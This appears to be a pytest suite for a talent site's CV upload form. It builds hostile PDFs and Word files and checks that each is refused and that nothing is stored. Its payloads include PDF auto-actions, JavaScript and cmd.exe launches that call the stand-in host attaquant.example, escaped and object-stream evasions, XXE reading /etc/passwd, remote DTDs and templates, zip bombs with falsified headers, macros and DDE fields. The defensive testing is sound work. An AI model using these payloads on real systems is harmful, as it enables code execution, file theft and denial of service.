"""Hostile CVs sent through the real profile form, as an attacker would (issue 11, point 8).

Each document is built here, byte by byte: PDFs with automatic actions (/OpenAction, /AA)
that open an address, run JavaScript or launch a program, hidden behind name escapes or in
compressed object streams; Word documents with a DTD, external entities, entity expansion,
a remote template, a zip bomb, macros or a DDE field. A signed-in talent uploads each one:
the form answers 400 with a clear French message, the profile keeps no CV and no file is
left on disk. Clean documents (links the reader clicks included) are still accepted, and a
document crafted to make the checks run for hours is refused within seconds.
"""

from __future__ import annotations

import html as html_lib
import io
import os
import re
import struct
import sys
import textwrap
import time
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from fpdf import FPDF
from sqlalchemy import select

from talento.accounts.models import User
from talento.extensions import db
from talento.geo.models import City, Country
from talento.profiles import cv_checks, cv_probe
from tests.helpers import _csrf_from, login, make_settings

EMAIL = "cible@example.ma"

# --- the messages the talent reads ----------------------------------------------------------

PDF_ACTIVE = "Ce PDF contient du contenu actif (JavaScript ou lancement de programme)"
PDF_AUTO = "Ce PDF lance une action automatique à son ouverture"
PDF_ATTACHMENT = "Ce PDF contient des fichiers joints"
PDF_ENCRYPTED = "Ce PDF est protégé ou chiffré"
PDF_UNVERIFIABLE = "Ce PDF ne peut pas être vérifié"
DOCX_XML = "Ce document Word contient des déclarations XML interdites (DOCTYPE ou entités)"
DOCX_EXTERNAL = "Ce document Word charge un modèle ou un contenu externe à son ouverture"
DOCX_MACROS = "Ce document Word contient des macros"
DOCX_FIELDS = "Ce document Word contient un champ qui lance un programme (DDE)"
DOCX_OVERSIZE = "Ce document Word est anormalement volumineux une fois décompressé"
DOCX_UNVERIFIABLE = "Ce document Word est endommagé et ne peut pas être vérifié"
CHECK_FAILED = "Ce document n'a pas pu être vérifié"
FOR_YOUR_SAFETY = "il a été refusé pour votre sécurité"

# --- PDF builders ---------------------------------------------------------------------------


def pdf_document(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A well-formed PDF (real xref offsets) from numbered object bodies; 1 is the catalog."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\n" % (len(objects) + 1, trailer)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def pdf_with_object_stream(objects: dict[int, bytes], packed: dict[int, bytes]) -> bytes:
    """A PDF 1.5+ as modern writers make it: `objects` written plainly, `packed` inside a
    compressed object stream, located by a compressed cross-reference stream (no xref table,
    so only a reader of cross-reference streams finds them)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    stream_number = max(*objects, *packed) + 1
    header, bodies, index = b"", b"", {}
    for position, (number, body) in enumerate(packed.items()):
        header += b"%d %d " % (number, len(bodies))
        bodies += body + b"\n"
        index[number] = position
    data = zlib.compress(header + bodies)
    offsets[stream_number] = len(out)
    out += (
        b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (stream_number, len(packed), len(header), len(data))
        + data
        + b"\nendstream\nendobj\n"
    )
    xref_number = stream_number + 1
    offsets[xref_number] = len(out)
    rows = b""
    for number in range(xref_number + 1):
        if number in offsets:
            rows += struct.pack(">BIH", 1, offsets[number], 0)
        elif number in index:
            rows += struct.pack(">BIH", 2, stream_number, index[number])
        else:
            rows += struct.pack(">BIH", 0, 0, 0xFFFF if number == 0 else 0)
    table = zlib.compress(rows)
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode "
        b"/Length %d >>\nstream\n"
        % (xref_number, xref_number + 1, len(table))
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    )
    return bytes(out)


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s>>"
CATALOG = b"<< /Type /Catalog /Pages 2 0 R %s>>"
URI = b"<< /S /URI /URI (https://attaquant.example/suivi?cv=1) >>"
JAVASCRIPT = b"<< /S /JavaScript /JS (app.launchURL\\('https://attaquant.example'\\)) >>"
LAUNCH = b"<< /S /Launch /F (C:\\\\Windows\\\\System32\\\\cmd.exe) >>"
LINK = (
    b"<< /Type /Annot /Subtype /Link /Rect [50 50 200 70] /Border [0 0 0] "
    b"/A << /S /URI /URI (https://www.linkedin.com/in/amina) >> %s>>"
)


def simple_pdf(catalog: bytes = b"", page: bytes = b"", *more: bytes) -> bytes:
    return pdf_document(CATALOG % catalog, PAGES, PAGE % page, *more)


def fpdf_cv_with_links() -> bytes:
    """A real CV from fpdf2 with links the reader clicks (web and e-mail)."""
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=12)
    pdf.cell(text="Amina - comédienne", new_x="LMARGIN", new_y="NEXT")
    pdf.cell(text="LinkedIn", link="https://www.linkedin.com/in/amina", new_y="NEXT")
    pdf.cell(text="amina@example.ma", link="mailto:amina@example.ma")
    return bytes(pdf.output())


def many_streams_pdf(count: int) -> bytes:
    """Streams whose /Length refers to an object that is not there: the previous checker
    searched the whole file once per stream (hours for 40,000 of them), and pypdf reads each
    one by searching for its end, in Python (seconds)."""
    body = b"".join(
        b"%d 0 obj\n<< /Length 999999 0 R >>\nstream\nx\nendstream\nendobj\n" % number
        for number in range(10, 10 + count)
    )
    return b"%PDF-1.7\n" + body + b"trailer\n<< /Root 10 0 R >>\nstartxref\n0\n%%EOF\n"


HOSTILE_PDFS: dict[str, tuple[Callable[[], bytes], str]] = {
    "open-action-javascript": (
        lambda: simple_pdf(b"/OpenAction 4 0 R", b"", JAVASCRIPT),
        PDF_ACTIVE,
    ),
    "open-action-uri": (lambda: simple_pdf(b"/OpenAction " + URI), PDF_AUTO),
    "open-action-launch": (lambda: simple_pdf(b"/OpenAction " + LAUNCH), PDF_ACTIVE),
    "open-action-goto-then-uri": (
        lambda: simple_pdf(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>", b"", URI),
        PDF_AUTO,
    ),
    "document-aa-uri-on-close": (lambda: simple_pdf(b"/AA << /WC " + URI + b" >>"), PDF_AUTO),
    "page-aa-uri-on-open": (lambda: simple_pdf(b"", b"/AA << /O " + URI + b" >>"), PDF_AUTO),
    "page-aa-launch": (lambda: simple_pdf(b"", b"/AA << /O " + LAUNCH + b" >>"), PDF_ACTIVE),
    "link-aa-uri-on-hover": (
        lambda: simple_pdf(b"", b"/Annots [4 0 R]", LINK % (b"/AA << /E " + URI + b" >>")),
        PDF_AUTO,
    ),
    "names-javascript": (
        lambda: simple_pdf(b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", b"", JAVASCRIPT),
        PDF_ACTIVE,
    ),
    # Name escapes: #61 is "a", #70 is "p", #41 is "A". A byte search for the plain names
    # misses these; a parser decodes them as a reader does.
    "escaped-javascript": (
        lambda: simple_pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
        PDF_ACTIVE,
    ),
    "escaped-open-action-key": (lambda: simple_pdf(b"/O#70enAction " + URI), PDF_AUTO),
    "escaped-aa-key": (lambda: simple_pdf(b"", b"/A#41 << /O " + URI + b" >>"), PDF_AUTO),
    "uri-in-object-stream": (
        lambda: pdf_with_object_stream(
            {1: CATALOG % b"/OpenAction 10 0 R", 2: PAGES, 3: PAGE % b""}, {10: URI}
        ),
        PDF_AUTO,
    ),
    "escaped-aa-in-object-stream": (
        lambda: pdf_with_object_stream(
            {1: CATALOG % b"", 2: PAGES}, {3: PAGE % b"/#41A << /O 11 0 R >>", 11: URI}
        ),
        PDF_AUTO,
    ),
    "javascript-in-object-stream": (
        lambda: pdf_with_object_stream(
            {1: CATALOG % b"/OpenAction 10 0 R", 2: PAGES, 3: PAGE % b""}, {10: JAVASCRIPT}
        ),
        PDF_ACTIVE,
    ),
    "open-action-to-a-missing-object": (
        lambda: simple_pdf(b"/OpenAction 99 0 R"),
        PDF_UNVERIFIABLE,
    ),
    "embedded-file": (
        lambda: simple_pdf(
            b"/Names << /EmbeddedFiles << /Names [(facture.exe) 4 0 R] >> >>",
            b"",
            b"<< /Type /Filespec /F (facture.exe) /EF << /F 5 0 R >> >>",
            b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
        ),
        PDF_ATTACHMENT,
    ),
    "encrypted": (
        lambda: pdf_document(
            CATALOG % b"",
            PAGES,
            PAGE % b"",
            b"<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>",
            trailer=b"/Encrypt 4 0 R",
        ),
        PDF_ENCRYPTED,
    ),
    "garbage-after-the-signature": (lambda: b"%PDF-1.7\n" + os.urandom(4096), PDF_UNVERIFIABLE),
    "no-cross-reference": (
        lambda: b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n",
        PDF_UNVERIFIABLE,
    ),
    "unterminated-string": (lambda: simple_pdf(b"/Title (jamais fermee"), PDF_UNVERIFIABLE),
    "deeply-nested-arrays": (
        lambda: simple_pdf(b"/X " + b"[" * 100_000 + b"]" * 100_000),
        PDF_UNVERIFIABLE,
    ),
}

# --- DOCX builders --------------------------------------------------------------------------

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    f'<Relationships xmlns="{PKG_RELS}">'
    f'<Relationship Id="rId1" Type="{R}/officeDocument" Target="word/document.xml"/>'
    "</Relationships>"
)
DOCUMENT_BODY = (
    "<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"
    '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>LinkedIn</w:t></w:r></w:hyperlink></w:p>'
)


def document(body: str = "", prolog: str = "", text: str = "Amina, comédienne") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        + prolog
        + f'<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>'
        + (body or DOCUMENT_BODY.format(text=text))
        + "</w:body></w:document>"
    )


def relationships(*extra: str) -> str:
    """word/_rels/document.xml.rels: a hyperlink (External, clicked) and `extra`."""
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<Relationships xmlns="{PKG_RELS}">'
        f'<Relationship Id="rId9" Type="{R}/hyperlink" '
        'Target="https://www.linkedin.com/in/amina" TargetMode="External"/>'
        + "".join(extra)
        + "</Relationships>"
    )


def docx(**parts: str | bytes | None) -> bytes:
    """A minimal real .docx; keyword arguments replace or add parts (``None`` removes one);
    part names use "__" for "/" and "_dot_" for "." (``word__settings_dot_xml``)."""
    files: dict[str, str | bytes | None] = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": ROOT_RELS,
        "word/document.xml": document(),
        "word/_rels/document.xml.rels": relationships(),
    }
    for key, body in parts.items():
        name = key.replace("__", "/").replace("_dot_", ".")
        name = {"content_types": "[Content_Types].xml", "root_rels": "_rels/.rels"}.get(name, name)
        files[name] = body
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in files.items():
            if body is not None:
                archive.writestr(name, body)
    return out.getvalue()


BILLION_LAUGHS = (
    '<!DOCTYPE w:document [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + "]>"
)
XXE = '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
PARAMETER_XXE = (
    '<!DOCTYPE w:document [<!ENTITY % remote SYSTEM "http://attaquant.example/x.dtd">%remote;]>'
)
SETTINGS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/></w:settings>'
)
REMOTE_TEMPLATE_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    f'<Relationships xmlns="{PKG_RELS}">'
    f'<Relationship Id="rId1" Type="{R}/attachedTemplate" '
    'Target="https://attaquant.example/modele.dotm" TargetMode="External"/></Relationships>'
)
DDE_SPLIT_ACROSS_RUNS = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    "<w:r><w:instrText> DDE</w:instrText></w:r>"
    '<w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)


def zip_bomb(lie: bool = False) -> bytes:
    """A .docx of a few hundred kilobytes whose document.xml inflates to 150 MB. With
    ``lie``, its headers claim 1,000 bytes (under every limit); the inflated bytes are
    150 MB all the same."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", ROOT_RELS)
        with archive.open("word/document.xml", "w") as part:
            part.write(f'<?xml version="1.0"?><w:document xmlns:w="{W}"><w:body>'.encode())
            block = b" " * (1024 * 1024)
            for _ in range(150):
                part.write(block)
        bomb = archive.getinfo("word/document.xml")
    data = bytearray(out.getvalue())
    if lie:
        # Uncompressed size: offset 22 of the local header, 24 of the central directory's.
        struct.pack_into("<I", data, bomb.header_offset + 22, 1000)
        central = data.rindex(b"PK\x01\x02", 0, data.rindex(b"word/document.xml"))
        struct.pack_into("<I", data, central + 24, 1000)
    return bytes(data)


def many_entries() -> bytes:
    return docx(**{f"word__media__image{i}_dot_png": b"" for i in range(6000)})


def utf16(xml: str) -> bytes:
    return xml.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")


HOSTILE_DOCX: dict[str, tuple[Callable[[], bytes], str]] = {
    "doctype": (
        lambda: docx(word__document_dot_xml=document(prolog="<!DOCTYPE w:document>")),
        DOCX_XML,
    ),
    "external-entity": (
        lambda: docx(word__document_dot_xml=document(prolog=XXE, text="&xxe;")),
        DOCX_XML,
    ),
    "external-parameter-entity": (
        lambda: docx(word__document_dot_xml=document(prolog=PARAMETER_XXE)),
        DOCX_XML,
    ),
    "billion-laughs": (
        lambda: docx(word__document_dot_xml=document(prolog=BILLION_LAUGHS, text="&lol9;")),
        DOCX_XML,
    ),
    "doctype-in-utf16": (
        lambda: docx(word__document_dot_xml=utf16(document(prolog=XXE, text="&xxe;"))),
        DOCX_XML,
    ),
    "doctype-in-content-types": (
        lambda: docx(content_types=CONTENT_TYPES.replace("?>", "?>" + XXE, 1)),
        DOCX_XML,
    ),
    "doctype-in-relationships": (
        lambda: docx(root_rels=ROOT_RELS.replace("?>", "?>" + XXE, 1)),
        DOCX_XML,
    ),
    "doctype-in-a-header": (
        lambda: docx(word__header1_dot_xml=document(prolog=BILLION_LAUGHS)),
        DOCX_XML,
    ),
    "remote-template": (
        lambda: docx(
            word__settings_dot_xml=SETTINGS,
            word___rels__settings_dot_xml_dot_rels=REMOTE_TEMPLATE_RELS,
        ),
        DOCX_EXTERNAL,
    ),
    "linked-image-on-a-network-share": (
        lambda: docx(
            word___rels__document_dot_xml_dot_rels=relationships(
                f'<Relationship Id="rId5" Type="{R}/image" '
                'Target="\\\\attaquant.example\\partage\\pixel.png" TargetMode="External"/>'
            )
        ),
        DOCX_EXTERNAL,
    ),
    "object-at-a-file-url-without-target-mode": (
        lambda: docx(
            word___rels__document_dot_xml_dot_rels=relationships(
                f'<Relationship Id="rId6" Type="{R}/oleObject" '
                'Target="file://attaquant.example/objet.bin"/>'
            )
        ),
        DOCX_EXTERNAL,
    ),
    "zip-bomb": (zip_bomb, DOCX_OVERSIZE),
    "zip-bomb-whose-headers-lie": (lambda: zip_bomb(lie=True), DOCX_UNVERIFIABLE),
    "six-thousand-entries": (many_entries, DOCX_OVERSIZE),
    "macro-project": (lambda: docx(word__vbaProject_dot_bin=b"\xd0\xcf\x11\xe0macro"), DOCX_MACROS),
    "macro-enabled-content-type": (
        lambda: docx(
            content_types=CONTENT_TYPES.replace(
                "wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml"
            )
        ),
        DOCX_MACROS,
    ),
    "dde-field-split-across-runs": (
        lambda: docx(word__document_dot_xml=document(body=DDE_SPLIT_ACROSS_RUNS)),
        DOCX_FIELDS,
    ),
    "dde-simple-field": (
        lambda: docx(
            word__document_dot_xml=document(
                body='<w:p><w:fldSimple w:instr="DDEAUTO cmd.exe &quot;/c calc&quot;"/></w:p>'
            )
        ),
        DOCX_FIELDS,
    ),
    "malformed-xml": (
        lambda: docx(word__document_dot_xml=document().replace("</w:body>", "")),
        DOCX_UNVERIFIABLE,
    ),
}

# --- the form -------------------------------------------------------------------------------


@pytest.fixture
def upload_dir(tmp_path) -> Path:
    return tmp_path / "uploads"


@pytest.fixture
def settings(database_url, upload_dir):
    return make_settings(database_url, upload_dir=str(upload_dir))


@pytest.fixture
def talent(make_talent) -> int:
    return make_talent(email=EMAIL, last_name="Cible", phone="+212612345678")


def profile_data(app) -> dict:
    with app.app_context():
        morocco = db.session.scalars(select(Country).where(Country.iso2 == "MA")).one()
        city = db.session.scalars(
            select(City.id).where(City.country_id == morocco.id, City.code == "CAS")
        ).one()
    return {
        "first_name": "Amina",
        "last_name": "Cible",
        "gender": "F",
        "date_of_birth": "1990-01-02",
        "nationality": "MA",
        "phone": "0661000000",
        "country": "MA",
        "city": str(city),
        "skills": ["actor"],
        "bio": "Comédienne",
        "availability": "soon",
        "work_mode": "remote",
        "languages": ["fr"],
    }


def upload_cv(app, client, data: bytes, filename: str):
    token = _csrf_from(client.get("/profile/edit").get_data(as_text=True))
    return client.post(
        "/profile/edit",
        data={**profile_data(app), "csrf_token": token, "cv": (io.BytesIO(data), filename)},
        content_type="multipart/form-data",
    )


def stored_cv(app, user_id: int) -> str | None:
    with app.app_context():
        name = db.session.get(User, user_id).profile.cv_name
        db.session.remove()
        return name


def files_under(root: Path) -> list[Path]:
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


def assert_refused(response, message: str, status: int = 400) -> None:
    page = html_lib.unescape(response.get_data(as_text=True))
    assert response.status_code == status, page[:2000]
    error = re.search(r'<p class="field-error" id="cv-error">([^<]*)</p>', page)
    assert error, page[:2000]
    assert message in error.group(1)
    assert "Traceback" not in page


def assert_nothing_kept(app, talent: int, upload_dir: Path) -> None:
    assert stored_cv(app, talent) is None
    assert files_under(upload_dir) == []


# --- hostile PDFs ---------------------------------------------------------------------------


@pytest.mark.parametrize("case", HOSTILE_PDFS)
def test_hostile_pdf_is_refused_and_nothing_is_kept(app, client, talent, upload_dir, case):
    build, message = HOSTILE_PDFS[case]
    login(client, EMAIL)
    response = upload_cv(app, client, build(), "cv.pdf")
    assert_refused(response, message)
    assert_nothing_kept(app, talent, upload_dir)


@pytest.mark.parametrize(
    "message", [PDF_AUTO, PDF_ATTACHMENT, DOCX_XML, DOCX_EXTERNAL, DOCX_FIELDS, DOCX_OVERSIZE]
)
def test_the_new_refusals_say_why_and_what_to_do(app, message):
    """Each new message names the danger, says it was refused for safety, and how to fix."""
    with app.test_request_context():
        every = [refusal().message for refusal in cv_checks._REFUSALS.values()]
    texts = [text for text in every if text.startswith(message)]
    assert len(texts) == 1
    assert FOR_YOUR_SAFETY in texts[0]
    assert "Enregistrez-le" in texts[0]


@pytest.mark.parametrize(
    ("build", "name"),
    [
        pytest.param(fpdf_cv_with_links, "fpdf", id="fpdf-with-web-and-mail-links"),
        pytest.param(
            lambda: simple_pdf(b"/OpenAction [3 0 R /Fit]", b"/Annots [4 0 R]", LINK % b""),
            "hand",
            id="open-at-first-page-and-a-clicked-link",
        ),
        pytest.param(
            lambda: simple_pdf(b"/OpenAction << /S /GoTo /D [3 0 R /FitH 800] >>"),
            "goto",
            id="open-action-goto",
        ),
        pytest.param(
            lambda: pdf_with_object_stream(
                {1: CATALOG % b"", 2: PAGES}, {3: PAGE % b"/Annots [11 0 R]", 11: LINK % b""}
            ),
            "objstm",
            id="object-streams-and-a-link",
        ),
    ],
)
def test_clean_pdf_is_still_accepted(app, client, talent, upload_dir, build, name):
    data = build()
    login(client, EMAIL)
    response = upload_cv(app, client, data, f"{name}.pdf")
    assert response.status_code == 302, html_lib.unescape(response.get_data(as_text=True))[:2000]
    cv_name = stored_cv(app, talent)
    assert cv_name
    assert cv_name.endswith(".pdf")
    assert (upload_dir / "cv" / cv_name).read_bytes() == data


# --- hostile Word documents ------------------------------------------------------------------


@pytest.mark.parametrize("case", HOSTILE_DOCX)
def test_hostile_docx_is_refused_and_nothing_is_kept(app, client, talent, upload_dir, case):
    build, message = HOSTILE_DOCX[case]
    login(client, EMAIL)
    started = time.monotonic()
    response = upload_cv(app, client, build(), "cv.docx")
    assert time.monotonic() - started < 15  # entity expansion and bombs are never inflated
    assert_refused(response, message)
    assert_nothing_kept(app, talent, upload_dir)


def test_clean_docx_with_a_hyperlink_and_settings_is_still_accepted(
    app, client, talent, upload_dir
):
    data = docx(
        word__settings_dot_xml=SETTINGS.replace('<w:attachedTemplate r:id="rId1"/>', ""),
        word__styles_dot_xml=(
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:styles xmlns:w="{W}"/>'
        ),
        word__media__photo_dot_png=b"\x89PNG\r\n\x1a\n<!DOCTYPE not xml, an image>",
    )
    login(client, EMAIL)
    response = upload_cv(app, client, data, "cv.docx")
    assert response.status_code == 302, html_lib.unescape(response.get_data(as_text=True))[:2000]
    cv_name = stored_cv(app, talent)
    assert cv_name
    assert (upload_dir / "cv" / cv_name).read_bytes() == data


# --- the time budget -------------------------------------------------------------------------


def test_the_raw_scan_is_linear_on_a_file_that_took_it_hours():
    data = many_streams_pdf(40_000)
    started = time.monotonic()
    cv_probe.scan_pdf_bytes(data)
    assert time.monotonic() - started < 15


def test_a_pdf_that_keeps_the_parser_busy_is_refused_when_the_budget_is_spent(
    app, client, talent, upload_dir, monkeypatch, caplog
):
    """The real check on a real hostile file, with a budget of 1 s instead of 15: pypdf needs
    several seconds for these 100,000 objects, so the child is stopped and the file refused."""
    monkeypatch.setattr(cv_checks, "CHECK_SECONDS", 1.0)
    login(client, EMAIL)
    started = time.monotonic()
    response = upload_cv(app, client, many_streams_pdf(100_000), "cv.pdf")
    assert time.monotonic() - started < 15
    assert_refused(response, CHECK_FAILED)
    assert_nothing_kept(app, talent, upload_dir)
    assert "interrompue après 1.0 s" in caplog.text


@pytest.fixture
def fake_probe(tmp_path, monkeypatch):
    """Replace the checking child by a script; returns a function that writes it."""

    def write(source: str, seconds: float = 10.0) -> Path:
        script = tmp_path / "probe.py"
        script.write_text(textwrap.dedent(source))
        monkeypatch.setattr(cv_checks, "PROBE", script)
        monkeypatch.setattr(cv_checks, "CHECK_SECONDS", seconds)
        return script

    return write


def test_a_check_that_never_ends_is_killed_and_the_file_refused(
    app, client, talent, upload_dir, tmp_path, fake_probe, caplog
):
    """A parser stuck in a loop: the worker waits 2 s (15 in production), the child is
    killed, the file refused; the log says so without naming anyone."""
    pid_file = tmp_path / "pid"
    fake_probe(
        f"""
        import os, sys
        sys.stdin.buffer.read()
        with open({str(pid_file)!r}, "w") as out:
            out.write(str(os.getpid()))
        while True:
            pass
        """,
        seconds=2.0,
    )
    login(client, EMAIL)
    started = time.monotonic()
    response = upload_cv(app, client, fpdf_cv_with_links(), "cv.pdf")
    assert time.monotonic() - started < 15
    assert_refused(response, CHECK_FAILED)
    assert "refusé pour votre sécurité" in html_lib.unescape(response.get_data(as_text=True))
    assert_nothing_kept(app, talent, upload_dir)
    with pytest.raises(ProcessLookupError):
        os.kill(int(pid_file.read_text()), 0)  # killed and reaped, not left spinning
    assert "interrompue après 2.0 s" in caplog.text
    assert EMAIL not in caplog.text


@pytest.mark.parametrize(
    "source",
    [
        pytest.param("raise MemoryError", id="out-of-memory"),
        pytest.param("import os; os.kill(os.getpid(), 9)", id="killed"),
        pytest.param("print('peut-être')", id="unknown-verdict"),
    ],
)
def test_a_check_that_fails_refuses_the_file(app, client, talent, upload_dir, fake_probe, source):
    fake_probe(source)
    login(client, EMAIL)
    response = upload_cv(app, client, fpdf_cv_with_links(), "cv.pdf")
    assert_refused(response, CHECK_FAILED)
    assert_nothing_kept(app, talent, upload_dir)


def test_a_check_that_cannot_start_is_a_503(app, client, talent, upload_dir, monkeypatch):
    monkeypatch.setattr(sys, "executable", "/nonexistent/python")
    login(client, EMAIL)
    response = upload_cv(app, client, fpdf_cv_with_links(), "cv.pdf")
    assert_refused(response, "Impossible de vérifier le fichier pour le moment", status=503)
    assert_nothing_kept(app, talent, upload_dir)


def test_when_every_check_slot_is_busy_the_upload_waits_then_gets_a_503(
    app, client, talent, upload_dir, monkeypatch
):
    """A flood of uploads cannot start a process per thread: past CONCURRENT_CHECKS at once
    in a worker, an upload waits for a free slot at most CHECK_SECONDS, then is told to retry."""
    monkeypatch.setattr(cv_checks, "CHECK_SECONDS", 0.5)
    login(client, EMAIL)
    held = 0
    try:
        while cv_checks._slots.acquire(blocking=False):
            held += 1
        assert held == cv_checks.CONCURRENT_CHECKS
        response = upload_cv(app, client, fpdf_cv_with_links(), "cv.pdf")
    finally:
        for _ in range(held):
            cv_checks._slots.release()
    assert_refused(response, "Impossible de vérifier le fichier pour le moment", status=503)
    assert_nothing_kept(app, talent, upload_dir)
    monkeypatch.undo()  # the real budget again: with the slots free, the same file is taken
    assert upload_cv(app, client, fpdf_cv_with_links(), "cv.pdf").status_code == 302
